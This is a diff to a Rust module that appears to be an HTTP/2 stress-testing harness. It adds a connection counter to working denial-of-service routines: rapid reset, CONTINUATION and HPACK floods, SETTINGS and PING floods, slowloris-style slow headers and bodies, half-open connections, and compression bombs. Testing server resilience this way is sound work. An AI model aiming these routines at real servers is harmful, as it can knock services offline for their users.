@@ -2,6 +2,7 @@
 //! thrown out.
 
 use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
 use anyhow::Result;
@@ -19,6 +20,8 @@ pub(super) struct Target {
     pub(super) address: String,
     pub(super) until: Instant,
     pub(super) bombs: Bombs,
+    /// Connections that attackers have had: an attack that reaches nobody says nothing.
+    pub(super) reached: Arc<AtomicUsize>,
 }
 
 /// Zeros, compressed.
@@ -35,6 +38,28 @@ pub(super) struct Bombs {
 impl Target {
     fn is_on(&self) -> bool {
         Instant::now() < self.until
+    }
+
+    fn count(&self, connected: Result<Raw>) -> Result<Raw> {
+        self.reached
+            .fetch_add(usize::from(connected.is_ok()), Ordering::Relaxed);
+        connected
+    }
+
+    async fn silent(&self) -> Result<Raw> {
+        self.count(Raw::silent(&self.address).await)
+    }
+
+    async fn connect(&self) -> Result<Raw> {
+        self.count(Raw::connect(&self.address).await)
+    }
+
+    async fn with(&self, settings: &[u8]) -> Result<Raw> {
+        self.count(Raw::with(&self.address, settings).await)
+    }
+
+    async fn ready(&self) -> Result<Raw> {
+        self.count(Raw::ready(&self.address).await)
     }
 }
 
@@ -88,7 +113,7 @@ pub(super) fn all() -> Vec<Attack> {
 
 /// A request and its end, again and again.
 async fn rapid_reset(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     let block = export(None);
     while target.is_on() {
         let mut wire = Vec::new();
@@ -105,7 +130,7 @@ async fn rapid_reset(target: Target) -> Result<()> {
 
 /// Headers that go on for ever.
 async fn continuations(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     let stream = raw.stream();
     raw.send(&frame(HEADERS, 0, stream, &export(None))).await?;
     // A header of 100 bytes, in each frame 150 of them.
@@ -119,7 +144,7 @@ async fn continuations(target: Target) -> Result<()> {
 
 /// A header of 4,000 bytes, remembered, and then named in a byte each.
 async fn hpack(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     // The length 4000, as an integer with a prefix of seven bits.
     let mut bomb = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'b'; 4000]].concat();
     bomb.extend(std::iter::repeat_n(0xbe, 12_000));
@@ -134,7 +159,7 @@ async fn hpack(target: Target) -> Result<()> {
 }
 
 async fn empty_data(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     let stream = raw.stream();
     raw.send(&frame(HEADERS, END_HEADERS, stream, &export(None)))
         .await?;
@@ -142,13 +167,13 @@ async fn empty_data(target: Target) -> Result<()> {
 }
 
 async fn settings(target: Target) -> Result<()> {
-    let raw = Raw::connect(&target.address).await?;
+    let raw = target.connect().await?;
     // The initial window, which every stream has to be told.
     repeat(raw, target, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])).await
 }
 
 async fn pings(target: Target) -> Result<()> {
-    let raw = Raw::connect(&target.address).await?;
+    let raw = target.connect().await?;
     repeat(raw, target, &frame(PING, 0, 0, &[7; 8])).await
 }
 
@@ -165,7 +190,7 @@ async fn repeat(mut raw: Raw, target: Target, frame: &[u8]) -> Result<()> {
 async fn idle(target: Target) -> Result<()> {
     let mut all = Vec::new();
     for _ in 0..100 {
-        if let Ok(raw) = Raw::connect(&target.address).await {
+        if let Ok(raw) = target.connect().await {
             all.push(raw);
         }
     }
@@ -177,7 +202,7 @@ async fn idle(target: Target) -> Result<()> {
 async fn half_open(target: Target) -> Result<()> {
     let mut all = Vec::new();
     for _ in 0..10 {
-        let mut raw = Raw::silent(&target.address).await?;
+        let mut raw = target.silent().await?;
         raw.send(b"PRI * HT").await?;
         all.push(raw);
     }
@@ -191,7 +216,7 @@ async fn handshakes(target: Target) -> Result<()> {
     let hello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
     let mut all = Vec::new();
     for _ in 0..10 {
-        let mut raw = Raw::silent(&target.address).await?;
+        let mut raw = target.silent().await?;
         raw.send(&hello).await?;
         all.push(raw);
     }
@@ -200,7 +225,7 @@ async fn handshakes(target: Target) -> Result<()> {
 }
 
 async fn slow_headers(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     let stream = raw.stream();
     for byte in frame(HEADERS, END_HEADERS, stream, &export(None)) {
         if target.is_on() {
@@ -213,7 +238,7 @@ async fn slow_headers(target: Target) -> Result<()> {
 
 /// A hundred requests, each with a byte now and then.
 async fn slow_bodies(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     let streams: Vec<u32> = (0..100).map(|_| raw.stream()).collect();
     let start = message(false, &[0; 1000]);
     for stream in &streams {
@@ -235,7 +260,7 @@ async fn slow_bodies(target: Target) -> Result<()> {
 
 /// A hundred requests of 64 MiB each, of which nothing comes.
 async fn announced(target: Target) -> Result<()> {
-    let mut raw = Raw::connect(&target.address).await?;
+    let mut raw = target.connect().await?;
     for _ in 0..100 {
         let stream = raw.stream();
         let mut wire = frame(HEADERS, END_HEADERS, stream, &export(None));
@@ -248,7 +273,7 @@ async fn announced(target: Target) -> Result<()> {
 
 /// Requests whose answers never find a window.
 async fn untaken(target: Target) -> Result<()> {
-    let mut raw = Raw::with(&target.address, &[0, 4, 0, 0, 0, 0]).await?;
+    let mut raw = target.with(&[0, 4, 0, 0, 0, 0]).await?;
     while target.is_on() {
         let mut wire = Vec::new();
         for _ in 0..100 {
@@ -287,7 +312,7 @@ async fn bombs(target: Target, encoding: &str, bomb: &[u8]) -> Result<()> {
     let block = export(Some(encoding));
     let body = message(true, bomb);
     while target.is_on() {
-        let mut raw = Raw::ready(&target.address).await?;
+        let mut raw = target.ready().await?;
         for _ in 0..10 {
             let stream = raw.stream();
             raw.send(&frame(HEADERS, END_HEADERS, stream, &block))
